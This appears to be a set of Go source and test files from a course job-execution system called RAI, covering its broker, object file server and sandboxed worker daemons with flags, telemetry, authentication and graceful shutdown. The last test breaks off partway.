// version is stamped by the CI pipeline; kept in lockstep with cmd/rai.
const version = "0.2.0-dev"

func main() {
	os.Exit(run(os.Args[1:], os.Stdout, os.Stderr, nil, nil))
}

// run starts the daemon; ready (when non-nil) receives the bound address
// once listening — tests use it, main passes nil and blocks on signals.
func run(args []string, stdout, stderr io.Writer, ready chan<- string, quit <-chan struct{}) int {
	fs := flag.NewFlagSet("raibroker", flag.ContinueOnError)
	fs.SetOutput(stderr)
	addr := fs.String("addr", "127.0.0.1:7400", "listen address")
	fs.StringVar(addr, "listen", *addr, "alias for -addr (\":0\" picks a free port, reported on stdout and the ready file)")
	metricsAddr := fs.String("metrics-addr", "", "serve GET /metrics on this address (empty = disabled)")
	pprofOn := fs.Bool("pprof", false, "mount /debug/pprof on the metrics address")
	readyPath := fs.String("ready-file", "", "write a JSON readiness document (pid, bound addresses) here once serving")
	showVersion := fs.Bool("version", false, "print build information and exit")
	if err := fs.Parse(args); err != nil {
		return 2
	}
	if *showVersion {
		fmt.Fprintln(stdout, telemetry.NewStamp("raibroker", version))
		return 0
	}
	var bopts []broker.Option
	var sopts []brokerd.ServerOption
	var reg *telemetry.Registry
	if *metricsAddr != "" {
		reg = telemetry.NewRegistry()
		bopts = append(bopts, broker.WithTelemetry(reg))
		sopts = append(sopts, brokerd.WithTelemetry(reg))
	}
	b := broker.New(bopts...)
	// Telemetry batches are droppable; cap their no-collector backlog so
	// the engine cannot grow without bound.
	b.SetBacklogLimit(core.TelemetryTopic, 4096)
	if reg != nil {
		b.ExportQueueDepth(core.TasksTopic, core.TasksChannel)
	}
	srv, err := brokerd.NewServer(b, *addr, sopts...)
	if err != nil {
		fmt.Fprintf(stderr, "raibroker: %v\n", err)
		return 1
	}
	var exp *telemetry.Exporter
	var metricsBound string
	health := telemetry.NewHealth()
	if reg != nil {
		telemetry.RegisterBuildInfo(reg, "raibroker", version, nil)
		telemetry.RegisterProcessMetrics(reg)
		mounts := []func(*http.ServeMux){health.Mount}
		if *pprofOn {
			mounts = append(mounts, telemetry.MountPprof)
		}
		maddr, closeMetrics, err := reg.ServeMetrics(*metricsAddr, mounts...)
		if err != nil {
			fmt.Fprintf(stderr, "raibroker: metrics listener: %v\n", err)
			_ = srv.Close()
			b.Close()
			return 1
		}
		defer closeMetrics()
		metricsBound = maddr
		fmt.Fprintf(stdout, "raibroker metrics on http://%s/metrics\n", maddr)
		// The broker ships its own telemetry into its own engine — the
		// collector subscribes over TCP like any other consumer.
		exp = telemetry.NewExporter(context.Background(), "raibroker", core.ShipTelemetry(core.BrokerQueue{B: b}),
			telemetry.WithExportMetrics(reg))
		defer exp.Close()
		logger := telemetry.NewLogger("raibroker",
			telemetry.WithLogWriter(stderr), telemetry.WithLogSink(exp.ExportEvent))
		logger.Info(context.Background(), "broker started", telemetry.L("addr", *addr))
	}
	defer srv.Close()
	defer b.Close()
	fmt.Fprintf(stdout, "raibroker listening on %s\n", srv.Addr())
	if *readyPath != "" {
		info := readyfile.Info{Service: "raibroker", PID: os.Getpid(), Addr: srv.Addr(), MetricsAddr: metricsBound}
		if err := readyfile.Write(*readyPath, info); err != nil {
			fmt.Fprintf(stderr, "raibroker: %v\n", err)
			return 1
		}
	}
	if ready != nil {
		ready <- srv.Addr()
	}
	health.SetReady(true)
	// Block until asked to stop: quit (tests) or SIGINT/SIGTERM. Closing
	// the server drops every connection, which requeues unacked
	// deliveries inside the engine before b.Close releases it — clients
	// built on brokerd.ReconnClient redial and pick up where they left
	// off when the daemon returns.
	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()
	select {
	case <-quit: // nil when running as a real daemon: blocks forever
	case <-ctx.Done():
		fmt.Fprintln(stdout, "raibroker shutting down")
	}
	health.SetReady(false)
	return 0
}
