package main

import (
	"bytes"
	"io"
	"net/http"
	"regexp"
	"strings"
	"testing"
	"time"

	"rai/internal/objstore"
)

var metricsLine = regexp.MustCompile(`metrics on (http://[^/\s]+/metrics)`)

func TestMetricsAddrExposesStoreTelemetry(t *testing.T) {
	ready := make(chan string, 1)
	quit := make(chan struct{})
	var out, errb bytes.Buffer
	done := make(chan int, 1)
	go func() {
		done <- run([]string{"-addr", "127.0.0.1:0", "-metrics-addr", "127.0.0.1:0"}, &out, &errb, ready, quit)
	}()
	defer func() {
		close(quit)
		select {
		case <-done:
		case <-time.After(5 * time.Second):
			t.Error("daemon did not stop")
		}
	}()
	var addr string
	select {
	case addr = <-ready:
	case <-time.After(5 * time.Second):
		t.Fatalf("daemon never ready: %s", errb.String())
	}

	c := objstore.NewClient("http://" + addr)
	if err := c.Put(ctx, "uploads", "k", []byte("archive"), time.Hour); err != nil {
		t.Fatal(err)
	}
	if _, err := c.Get(ctx, "uploads", "k"); err != nil {
		t.Fatal(err)
	}

	m := metricsLine.FindStringSubmatch(out.String())
	if m == nil {
		t.Fatalf("no metrics address announced:\n%s", out.String())
	}
	resp, err := http.Get(m[1])
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(resp.Body)
	for _, want := range []string{
		`rai_objstore_requests_total{op="put"} 1`,
		`rai_objstore_requests_total{op="get"} 1`,
		"rai_objstore_used_bytes 7",
		`rai_objstore_bytes_total{direction="in"} 7`,
	} {
		if !strings.Contains(string(body), want) {
			t.Errorf("metrics missing %q:\n%s", want, body)
		}
	}

	// The dedicated endpoint also serves /metrics on the store itself.
	resp2, err := http.Get("http://" + addr + "/metrics")
	if err != nil {
		t.Fatal(err)
	}
	resp2.Body.Close()
	if resp2.StatusCode != http.StatusOK {
		t.Errorf("store /metrics = %d, want 200 when telemetry is on", resp2.StatusCode)
	}
}

func TestMetricsDisabledByDefault(t *testing.T) {
	ready := make(chan string, 1)
	quit := make(chan struct{})
	var out, errb bytes.Buffer
	done := make(chan int, 1)
	go func() { done <- run([]string{"-addr", "127.0.0.1:0"}, &out, &errb, ready, quit) }()
	defer func() {
		close(quit)
		<-done
	}()
	var addr string
	select {
	case addr = <-ready:
	case <-time.After(5 * time.Second):
		t.Fatalf("daemon never ready: %s", errb.String())
	}
	resp, err := http.Get("http://" + addr + "/metrics")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode == http.StatusOK {
		t.Error("GET /metrics succeeded without -metrics-addr; want disabled")
	}
	if strings.Contains(out.String(), "metrics on") {
		t.Errorf("daemon announced metrics without the flag:\n%s", out.String())
	}
}
