// Command raifs runs the RAI file server: the S3-like object store that
// holds student project uploads and worker /build outputs (paper §IV
// "File Storage Server"), with per-object lifetimes measured from last
// use.
//
// Usage:
//
//	raifs [-addr host:port] [-capacity bytes] [-ttl duration] [-keys keys.json] [-dir objects/]
//	      [-metrics-addr host:port] [-pprof] [-broker host:port] [-trace-sample 1]
//	      [-ready-file path] [-version]
package main

import (
	"context"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/signal"
	"rai/internal/clock"
	"syscall"
	"time"

	"rai/internal/auth"
	"rai/internal/blobstore"
	"rai/internal/cas"
	"rai/internal/core"
	"rai/internal/objstore"
	"rai/internal/readyfile"
	"rai/internal/telemetry"
)

// version is stamped by the CI pipeline; kept in lockstep with cmd/rai.
const version = "0.2.0-dev"

func main() {
	os.Exit(run(os.Args[1:], os.Stdout, os.Stderr, nil, nil))
}

func run(args []string, stdout, stderr io.Writer, ready chan<- string, quit <-chan struct{}) int {
	fs := flag.NewFlagSet("raifs", flag.ContinueOnError)
	fs.SetOutput(stderr)
	addr := fs.String("addr", "127.0.0.1:7401", "listen address")
	capacity := fs.Int64("capacity", 0, "total byte capacity (0 = unlimited)")
	ttl := fs.Duration("ttl", 30*24*time.Hour, "default object lifetime from last use")
	keysPath := fs.String("keys", "", "credentials file for request authentication (empty = open)")
	dataDir := fs.String("dir", "", "directory for durable object storage (empty = in-memory); alias for -store-root")
	storeBackend := fs.String("store-backend", "", "storage backend: memory or disk (default: disk when -store-root/-dir is set, else memory)")
	storeRoot := fs.String("store-root", "", "root directory for the disk backend")
	casRoot := fs.String("cas-root", "", "separate disk root for the content-addressed chunk bucket ("+cas.Bucket+"); empty = same backend as everything else")
	metricsAddr := fs.String("metrics-addr", "", "serve GET /metrics on this address (empty = disabled)")
	pprofOn := fs.Bool("pprof", false, "mount /debug/pprof on the metrics address")
	brokerAddr := fs.String("broker", "", "broker address for shipping spans/events to the collector (empty = off)")
	traceSample := fs.Float64("trace-sample", 1, "head-sampling rate for traces this server starts spans for; propagated X-RAI-Sampled verdicts always win")
	drain := fs.Duration("drain", 10*time.Second, "in-flight request drain budget at shutdown")
	readyPath := fs.String("ready-file", "", "write a JSON readiness document (pid, bound addresses) here once serving")
	showVersion := fs.Bool("version", false, "print build information and exit")
	fs.StringVar(addr, "listen", *addr, "alias for -addr (\":0\" picks a free port, reported on stdout and the ready file)")
	if err := fs.Parse(args); err != nil {
		return 2
	}
	if *showVersion {
		fmt.Fprintln(stdout, telemetry.NewStamp("raifs", version))
		return 0
	}
	// Backend selection: -store-backend names it explicitly; otherwise a
	// configured root directory implies disk and its absence memory.
	// -dir remains as a compatibility alias for -store-root.
	root := *storeRoot
	if root == "" {
		root = *dataDir
	}
	backend := *storeBackend
	if backend == "" {
		if root != "" {
			backend = "disk"
		} else {
			backend = "memory"
		}
	}
	var be blobstore.Backend
	switch backend {
	case "disk":
		if root == "" {
			fmt.Fprintln(stderr, "raifs: -store-backend disk requires -store-root (or -dir)")
			return 2
		}
		disk, err := blobstore.NewDisk(root, blobstore.WithCapacity(*capacity), blobstore.WithDefaultTTL(*ttl))
		if err != nil {
			fmt.Fprintf(stderr, "raifs: %v\n", err)
			return 1
		}
		be = disk
		fmt.Fprintf(stdout, "raifs persisting to %s\n", root)
	case "memory":
		be = blobstore.NewMemory(blobstore.WithCapacity(*capacity), blobstore.WithDefaultTTL(*ttl))
	default:
		fmt.Fprintf(stderr, "raifs: unknown -store-backend %q (want memory or disk)\n", backend)
		return 2
	}
	if *casRoot != "" {
		// Chunks live on their own spindle: dedup storage is hot (every
		// delta submission negotiates against it) and long-lived, so
		// deployments can give it separate durable space without moving
		// the rest of the buckets.
		casBE, err := blobstore.NewDisk(*casRoot, blobstore.WithDefaultTTL(*ttl))
		if err != nil {
			fmt.Fprintf(stderr, "raifs: -cas-root: %v\n", err)
			return 1
		}
		table := blobstore.NewTable(be)
		if err := table.Mount(cas.Bucket, casBE); err != nil {
			fmt.Fprintf(stderr, "raifs: -cas-root: %v\n", err)
			return 1
		}
		be = table
		fmt.Fprintf(stdout, "raifs chunk store (%s) persisting to %s\n", cas.Bucket, *casRoot)
	}
	store := objstore.NewWithBackend(be)
	var authFn objstore.AuthFunc
	if *keysPath != "" {
		reg, err := loadKeys(*keysPath)
		if err != nil {
			fmt.Fprintf(stderr, "raifs: %v\n", err)
			return 1
		}
		authFn = objstore.AuthFunc(reg.HTTPAuth())
	}
	var handlerOpts []objstore.HandlerOption
	var reg *telemetry.Registry
	var metricsBound string
	health := telemetry.NewHealth()
	if *metricsAddr != "" {
		reg = telemetry.NewRegistry()
		telemetry.RegisterBuildInfo(reg, "raifs", version, nil)
		telemetry.RegisterProcessMetrics(reg)
		handlerOpts = append(handlerOpts, objstore.WithTelemetry(reg))
		mounts := []func(*http.ServeMux){health.Mount}
		if *pprofOn {
			mounts = append(mounts, telemetry.MountPprof)
		}
		maddr, closeMetrics, err := reg.ServeMetrics(*metricsAddr, mounts...)
		if err != nil {
			fmt.Fprintf(stderr, "raifs: metrics listener: %v\n", err)
			return 1
		}
		defer closeMetrics()
		metricsBound = maddr
		fmt.Fprintf(stdout, "raifs metrics on http://%s/metrics\n", maddr)
	}
	// With a broker configured, finished spans (including the child spans
	// opened for traced requests) and log events ship to the collector.
	if *brokerAddr != "" {
		queue, err := core.NewRemoteQueue(context.Background(), *brokerAddr)
		if err != nil {
			fmt.Fprintf(stderr, "raifs: broker: %v\n", err)
			return 1
		}
		defer queue.Close()
		exp := telemetry.NewExporter(context.Background(), "raifs", core.ShipTelemetry(queue),
			telemetry.WithExportMetrics(reg))
		defer exp.Close()
		// The sampler honors propagated X-RAI-Sampled verdicts (noted by
		// the handler) and hashes orphan traces at the local rate; spans
		// of dropped traces are filtered before the export queue.
		var sampler *telemetry.Sampler
		if *traceSample < 1 {
			sampler = telemetry.NewSampler(*traceSample, telemetry.WithSamplerMetrics(reg))
			handlerOpts = append(handlerOpts, objstore.WithHandlerSampler(sampler))
		}
		tracer := telemetry.NewTracer(4096, telemetry.WithSpanSink(sampler.SpanSink(exp.ExportSpan)),
			telemetry.WithTracerInstance(telemetry.NewInstanceID("raifs")))
		handlerOpts = append(handlerOpts, objstore.WithHandlerTracer(tracer))
		logger := telemetry.NewLogger("raifs",
			telemetry.WithLogWriter(stderr), telemetry.WithLogSink(exp.ExportEvent))
		logger.Info(context.Background(), "file server started", telemetry.L("addr", *addr))
	}
	ln, err := net.Listen("tcp", *addr)
	if err != nil {
		fmt.Fprintf(stderr, "raifs: %v\n", err)
		return 1
	}
	srv := &http.Server{Handler: objstore.Handler(store, authFn, handlerOpts...)}
	go func() { _ = srv.Serve(ln) }()
	fmt.Fprintf(stdout, "raifs listening on %s\n", ln.Addr())
	if *readyPath != "" {
		info := readyfile.Info{Service: "raifs", PID: os.Getpid(), Addr: ln.Addr().String(), MetricsAddr: metricsBound}
		if err := readyfile.Write(*readyPath, info); err != nil {
			fmt.Fprintf(stderr, "raifs: %v\n", err)
			return 1
		}
	}
	if ready != nil {
		ready <- ln.Addr().String()
	}
	health.SetReady(true)
	// Periodic expired-object sweep, active however the daemon was
	// started (it used to run only in the signal path, so test-driven
	// daemons never swept).
	stopSweep := make(chan struct{})
	defer close(stopSweep)
	go func() {
		clk := clock.Real{}
		for {
			select {
			case <-clk.After(time.Hour):
				store.Sweep()
			case <-stopSweep:
				return
			}
		}
	}()
	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()
	select {
	case <-quit: // nil when running as a real daemon: blocks forever
	case <-ctx.Done():
		fmt.Fprintln(stdout, "raifs shutting down")
	}
	// Graceful drain: stop accepting, finish in-flight uploads and
	// downloads within the budget, then cut whatever is left. Readiness
	// flips first so load balancers stop routing before the listener dies.
	health.SetReady(false)
	dctx, cancel := context.WithTimeout(context.Background(), *drain)
	defer cancel()
	if err := srv.Shutdown(dctx); err != nil {
		_ = srv.Close()
	}
	return 0
}

// loadKeys reads a keygen-produced credentials file into a registry.
func loadKeys(path string) (*auth.Registry, error) {
	data, err := os.ReadFile(path)
	if err != nil {
		return nil, err
	}
	var creds []auth.Credentials
	if err := json.Unmarshal(data, &creds); err != nil {
		return nil, fmt.Errorf("parsing %s: %w", path, err)
	}
	reg := auth.NewRegistry()
	for _, c := range creds {
		if err := reg.Register(c); err != nil {
			return nil, err
		}
	}
	return reg, nil
}
