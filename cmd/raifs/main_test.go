package main

import (
	"bytes"
	"context"
	"encoding/json"
	"net/http"
	"os"
	"path/filepath"
	"testing"
	"time"

	"rai/internal/auth"
	"rai/internal/objstore"
)

func startDaemon(t *testing.T, args ...string) string {
	t.Helper()
	ready := make(chan string, 1)
	quit := make(chan struct{})
	var out, errb bytes.Buffer
	done := make(chan int, 1)
	go func() { done <- run(append([]string{"-addr", "127.0.0.1:0"}, args...), &out, &errb, ready, quit) }()
	var addr string
	select {
	case addr = <-ready:
	case <-time.After(5 * time.Second):
		t.Fatalf("raifs never ready: %s", errb.String())
	}
	t.Cleanup(func() {
		close(quit)
		select {
		case <-done:
		case <-time.After(5 * time.Second):
			t.Error("raifs did not stop")
		}
	})
	return addr
}

var ctx = context.Background()

func TestServesObjects(t *testing.T) {
	addr := startDaemon(t)
	c := objstore.NewClient("http://" + addr)
	if err := c.Put(ctx, "uploads", "k", []byte("archive"), time.Hour); err != nil {
		t.Fatal(err)
	}
	got, err := c.Get(ctx, "uploads", "k")
	if err != nil || string(got) != "archive" {
		t.Fatalf("get = %q, %v", got, err)
	}
	resp, err := http.Get("http://" + addr + "/healthz")
	if err != nil || resp.StatusCode != 200 {
		t.Fatalf("healthz: %v", err)
	}
	resp.Body.Close()
}

func TestAuthRequiredWithKeys(t *testing.T) {
	creds := auth.NewCredentials("team1")
	keysPath := filepath.Join(t.TempDir(), "keys.json")
	blob, _ := json.Marshal([]auth.Credentials{creds})
	os.WriteFile(keysPath, blob, 0o600)
	addr := startDaemon(t, "-keys", keysPath)

	// Unsigned request: forbidden.
	c := objstore.NewClient("http://" + addr)
	if err := c.Put(ctx, "uploads", "k", []byte("x"), 0); err == nil {
		t.Fatal("unsigned put accepted")
	}
	// Signed request: accepted.
	c.Sign = auth.SignHTTP(creds, time.Now)
	if err := c.Put(ctx, "uploads", "k", []byte("x"), 0); err != nil {
		t.Fatalf("signed put: %v", err)
	}
}

func TestDiskDurabilityAcrossRestart(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "objects")
	addr := startDaemon(t, "-dir", dir)
	c := objstore.NewClient("http://" + addr)
	if err := c.Put(ctx, "rai-uploads", "team/x.tar.bz2", []byte("payload"), time.Hour); err != nil {
		t.Fatal(err)
	}
	// A second daemon instance on the same directory serves the object.
	addr2 := startDaemon(t, "-dir", dir)
	c2 := objstore.NewClient("http://" + addr2)
	got, err := c2.Get(ctx, "rai-uploads", "team/x.tar.bz2")
	if err != nil || string(got) != "payload" {
		t.Fatalf("after restart: %q, %v", got, err)
	}
}

func TestBadKeysFile(t *testing.T) {
	var out, errb bytes.Buffer
	if code := run([]string{"-addr", "127.0.0.1:0", "-keys", "/nope.json"}, &out, &errb, nil, nil); code != 1 {
		t.Fatalf("exit = %d", code)
	}
}
