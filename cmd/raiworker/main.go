// Command raiworker runs a RAI worker agent (paper §IV "RAI Worker"): it
// subscribes to the rai/tasks queue route, executes accepted jobs inside
// sandboxed containers with the paper's limits (no network, 8 GB memory,
// 1 h lifetime, 30 s per-user rate limit — all configurable), streams
// output to the job's log topic, and uploads /build to the file server.
//
// Usage:
//
//	raiworker -broker host:port -fs url -db url -keys keys.json
//	          [-id worker-1] [-concurrency 1] [-mem bytes]
//	          [-lifetime 1h] [-rate-limit 30s] [-seed 408] [-full-images 100]
//	          [-metrics-addr host:port] [-pprof] [-telemetry=false] [-trace-sample 1]
//	          [-dial-timeout 10s] [-rpc-attempts 4] [-rpc-timeout 0]
//	          [-ready-file path] [-version]
package main

import (
	"context"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"net/http"
	"os"
	"os/signal"
	"syscall"
	"time"

	"rai/internal/auth"
	"rai/internal/brokerd"
	"rai/internal/cnn"
	"rai/internal/core"
	"rai/internal/docstore"
	"rai/internal/netx"
	"rai/internal/objstore"
	"rai/internal/readyfile"
	"rai/internal/registry"
	"rai/internal/telemetry"
	"rai/internal/vfs"
)

// version is stamped by the CI pipeline; kept in lockstep with cmd/rai.
const version = "0.2.0-dev"

func main() {
	os.Exit(run(os.Args[1:], os.Stdout, os.Stderr, nil, nil))
}

func run(args []string, stdout, stderr io.Writer, ready chan<- struct{}, quit <-chan struct{}) int {
	fs := flag.NewFlagSet("raiworker", flag.ContinueOnError)
	fs.SetOutput(stderr)
	brokerAddr := fs.String("broker", "127.0.0.1:7400", "broker address")
	fsURL := fs.String("fs", "http://127.0.0.1:7401", "file server URL")
	dbURL := fs.String("db", "http://127.0.0.1:7402", "database URL")
	keysPath := fs.String("keys", "", "credentials file (from raiadmin keygen)")
	id := fs.String("id", "worker-1", "worker id recorded in job documents")
	concurrency := fs.Int("concurrency", 1, "jobs accepted at once (single-job mode = 1)")
	mem := fs.Int64("mem", 8<<30, "container memory limit in bytes")
	lifetime := fs.Duration("lifetime", time.Hour, "container lifetime limit")
	rateLimit := fs.Duration("rate-limit", 30*time.Second, "per-user submission spacing")
	allowSessions := fs.Bool("allow-sessions", false, "accept interactive sessions (§VIII future work)")
	sessionIdle := fs.Duration("session-idle", 10*time.Minute, "idle timeout for interactive sessions")
	seed := fs.Uint64("seed", 408, "course model/dataset seed")
	fullImages := fs.Int("full-images", 100, "images stored in testfull.hdf5")
	metricsAddr := fs.String("metrics-addr", "", "serve GET /metrics on this address (empty = disabled)")
	pprofOn := fs.Bool("pprof", false, "mount /debug/pprof on the metrics address")
	telemetryOn := fs.Bool("telemetry", true, "ship spans and log events to the collector over the broker")
	traceSample := fs.Float64("trace-sample", 1, "head-sampling fallback rate for traces arriving without a verdict; the job envelope's verdict always wins")
	dialTimeout := fs.Duration("dial-timeout", brokerd.DefaultDialTimeout, "broker dial timeout per attempt")
	rpcAttempts := fs.Int("rpc-attempts", netx.DefaultMaxAttempts, "attempts per RPC before giving up")
	rpcTimeout := fs.Duration("rpc-timeout", 0, "per-attempt RPC deadline (0 = each service's default)")
	readyPath := fs.String("ready-file", "", "write a JSON readiness document (pid, metrics address) here once accepting jobs")
	showVersion := fs.Bool("version", false, "print build information and exit")
	if err := fs.Parse(args); err != nil {
		return 2
	}
	if *showVersion {
		fmt.Fprintln(stdout, telemetry.NewStamp("raiworker", version))
		return 0
	}
	if *keysPath == "" {
		fmt.Fprintln(stderr, "raiworker: -keys is required (run raiadmin keygen first)")
		return 2
	}
	reg, err := loadKeys(*keysPath)
	if err != nil {
		fmt.Fprintf(stderr, "raiworker: %v\n", err)
		return 1
	}
	// Telemetry comes first so the RPC layer's retry/reconnect counters
	// land in the same registry the worker exports.
	var telReg *telemetry.Registry
	if *metricsAddr != "" {
		telReg = telemetry.NewRegistry()
	}
	policy := netx.Policy{MaxAttempts: *rpcAttempts, PerAttempt: *rpcTimeout}
	queuePolicy := policy
	queuePolicy.Metrics = netx.NewMetrics(telReg, "broker")
	fsPolicy := policy
	fsPolicy.Metrics = netx.NewMetrics(telReg, "objstore")
	dbPolicy := policy
	dbPolicy.Metrics = netx.NewMetrics(telReg, "docstore")
	queue, err := core.NewRemoteQueue(context.Background(), *brokerAddr,
		core.WithQueuePolicy(queuePolicy),
		core.WithQueueMetrics(queuePolicy.Metrics),
		core.WithQueueDialTimeout(*dialTimeout))
	if err != nil {
		fmt.Fprintf(stderr, "raiworker: connecting to broker: %v\n", err)
		return 1
	}
	defer queue.Close()

	dataFS, err := buildDataVolume(*seed, *fullImages)
	if err != nil {
		fmt.Fprintf(stderr, "raiworker: building data volume: %v\n", err)
		return 1
	}
	w := &core.Worker{
		Cfg: core.WorkerConfig{
			ID:                 *id,
			MaxConcurrent:      *concurrency,
			MemoryBytes:        *mem,
			Lifetime:           *lifetime,
			RateLimit:          *rateLimit,
			AllowSessions:      *allowSessions,
			SessionIdleTimeout: *sessionIdle,
		},
		Queue:    queue,
		Objects:  objstore.NewClient(*fsURL, objstore.WithClientPolicy(fsPolicy)),
		DB:       docstore.NewClient(*dbURL, docstore.WithClientPolicy(dbPolicy)),
		Auth:     reg,
		Images:   registry.NewCourseRegistry(),
		DataFS:   dataFS,
		DataPath: "/data",
	}
	// Spans and log events ship to the collector over the same broker
	// connection the worker already holds; the exporter never blocks job
	// execution (full queue = dropped record + counter).
	tracerOpts := []telemetry.TracerOption{
		telemetry.WithTracerInstance(telemetry.NewInstanceID(*id)),
	}
	if *telemetryOn {
		exp := telemetry.NewExporter(context.Background(), "raiworker", core.ShipTelemetry(queue),
			telemetry.WithExportMetrics(telReg))
		defer exp.Close()
		// The worker notes each job envelope's X-RAI-Sampled verdict on
		// this sampler (core.Worker.process), so its spans follow the
		// client's decision; -trace-sample only decides orphan traces.
		if *traceSample < 1 {
			w.Sampler = telemetry.NewSampler(*traceSample, telemetry.WithSamplerMetrics(telReg))
		}
		tracerOpts = append(tracerOpts, telemetry.WithSpanSink(w.Sampler.SpanSink(exp.ExportSpan)))
		w.Log = telemetry.NewLogger("raiworker",
			telemetry.WithLogWriter(stderr), telemetry.WithLogSink(exp.ExportEvent))
	} else {
		w.Log = telemetry.NewLogger("raiworker", telemetry.WithLogWriter(stderr))
	}
	w.Tracer = telemetry.NewTracer(4096, tracerOpts...)
	var metricsBound string
	health := telemetry.NewHealth()
	if telReg != nil {
		w.Telemetry = telReg
		telemetry.RegisterBuildInfo(telReg, "raiworker", version, nil)
		telemetry.RegisterProcessMetrics(telReg)
		mounts := []func(*http.ServeMux){health.Mount}
		if *pprofOn {
			mounts = append(mounts, telemetry.MountPprof)
		}
		maddr, closeMetrics, err := telReg.ServeMetrics(*metricsAddr, mounts...)
		if err != nil {
			fmt.Fprintf(stderr, "raiworker: metrics listener: %v\n", err)
			return 1
		}
		defer closeMetrics()
		metricsBound = maddr
		fmt.Fprintf(stdout, "raiworker metrics on http://%s/metrics\n", maddr)
	}
	fmt.Fprintf(stdout, "raiworker %s accepting jobs (concurrency %d)\n", *id, *concurrency)
	// Graceful shutdown: canceling runCtx closes the subscription (the
	// broker requeues undelivered jobs for other workers) while jobs
	// already executing drain to completion inside RunContext.
	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()
	runCtx, cancel := context.WithCancel(ctx)
	defer cancel()
	done := make(chan error, 1)
	go func() { done <- w.RunContext(runCtx) }()
	if *readyPath != "" {
		info := readyfile.Info{Service: "raiworker", PID: os.Getpid(), MetricsAddr: metricsBound}
		if err := readyfile.Write(*readyPath, info); err != nil {
			fmt.Fprintf(stderr, "raiworker: %v\n", err)
			cancel()
			<-done
			return 1
		}
	}
	if ready != nil {
		close(ready)
	}
	health.SetReady(true)
	var runErr error
	select {
	case <-quit: // nil when running as a real daemon: blocks forever
		health.SetReady(false)
		cancel()
		runErr = <-done
	case <-ctx.Done():
		fmt.Fprintf(stdout, "raiworker %s draining in-flight jobs\n", *id)
		health.SetReady(false)
		cancel()
		runErr = <-done
	case runErr = <-done:
		health.SetReady(false)
	}
	if runErr != nil && runCtx.Err() == nil {
		fmt.Fprintf(stderr, "raiworker: %v\n", runErr)
		return 1
	}
	fmt.Fprintf(stdout, "raiworker %s handled %d jobs\n", *id, w.Handled())
	return 0
}

// buildDataVolume materializes the course /data volume: the pre-trained
// model and the small/full test datasets the build specs reference.
func buildDataVolume(seed uint64, fullImages int) (*vfs.FS, error) {
	dataFS := vfs.New()
	nw := cnn.NewNetwork(seed)
	model, err := nw.SaveModel()
	if err != nil {
		return nil, err
	}
	if err := dataFS.WriteFile("/data/model.hdf5", model); err != nil {
		return nil, err
	}
	small, err := cnn.SynthesizeDataset(nw, seed+1, 10)
	if err != nil {
		return nil, err
	}
	blob, err := small.Encode()
	if err != nil {
		return nil, err
	}
	if err := dataFS.WriteFile("/data/test10.hdf5", blob); err != nil {
		return nil, err
	}
	full, err := cnn.SynthesizeDataset(nw, seed+2, fullImages)
	if err != nil {
		return nil, err
	}
	blob, err = full.Encode()
	if err != nil {
		return nil, err
	}
	if err := dataFS.WriteFile("/data/testfull.hdf5", blob); err != nil {
		return nil, err
	}
	return dataFS, nil
}

func loadKeys(path string) (*auth.Registry, error) {
	data, err := os.ReadFile(path)
	if err != nil {
		return nil, err
	}
	var creds []auth.Credentials
	if err := json.Unmarshal(data, &creds); err != nil {
		return nil, fmt.Errorf("parsing %s: %w", path, err)
	}
	reg := auth.NewRegistry()
	for _, c := range creds {
		if err := reg.Register(c); err != nil {
			return nil, err
		}
	}
	return reg, nil
}
