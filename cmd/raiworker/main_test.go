package main

import (
	"bytes"
	"context"
	"encoding/json"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"rai/internal/auth"
	"rai/internal/broker"
	"rai/internal/brokerd"
	"rai/internal/cnn"
	"rai/internal/core"
	"rai/internal/docstore"
	"rai/internal/objstore"
	"rai/internal/project"
	"rai/internal/sim"
)

func TestWorkerDaemonProcessesJobs(t *testing.T) {
	// Services on loopback.
	b := broker.New()
	brokerSrv, err := brokerd.NewServer(b, "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer func() { brokerSrv.Close(); b.Close() }()
	store := objstore.New()
	fsLn, _ := net.Listen("tcp", "127.0.0.1:0")
	fsSrv := &http.Server{Handler: objstore.Handler(store, nil)}
	go fsSrv.Serve(fsLn)
	defer fsSrv.Close()
	db := docstore.New()
	dbLn, _ := net.Listen("tcp", "127.0.0.1:0")
	dbSrv := &http.Server{Handler: docstore.Handler(db, nil)}
	go dbSrv.Serve(dbLn)
	defer dbSrv.Close()

	creds := auth.NewCredentials("daemon-team")
	keysPath := filepath.Join(t.TempDir(), "keys.json")
	blob, _ := json.Marshal([]auth.Credentials{creds})
	os.WriteFile(keysPath, blob, 0o600)

	ready := make(chan struct{})
	quit := make(chan struct{})
	var out, errb bytes.Buffer
	done := make(chan int, 1)
	go func() {
		done <- run([]string{
			"-broker", brokerSrv.Addr(),
			"-fs", "http://" + fsLn.Addr().String(),
			"-db", "http://" + dbLn.Addr().String(),
			"-keys", keysPath,
			"-id", "daemon-worker",
			"-rate-limit", "1ns",
			"-full-images", "12",
		}, &out, &errb, ready, quit)
	}()
	select {
	case <-ready:
	case <-time.After(10 * time.Second):
		t.Fatalf("worker never ready: %s", errb.String())
	}

	// A client submits through the daemon.
	queue, err := core.NewRemoteQueue(context.Background(), brokerSrv.Addr())
	if err != nil {
		t.Fatal(err)
	}
	defer queue.Close()
	archive, err := sim.PackProject(project.Spec{Impl: cnn.ImplIm2col, Tuning: 1, Team: "daemon-team"})
	if err != nil {
		t.Fatal(err)
	}
	client := &core.Client{
		Creds: creds, Queue: queue,
		Objects: objstore.NewClient("http://" + fsLn.Addr().String()),
		LogWait: time.Minute,
	}
	res, err := client.SubmitContext(context.Background(), core.KindRun, nil, archive)
	if err != nil {
		t.Fatalf("submit through daemon: %v", err)
	}
	if res.Status != core.StatusSucceeded {
		t.Fatalf("status = %q", res.Status)
	}
	// The job record names this worker.
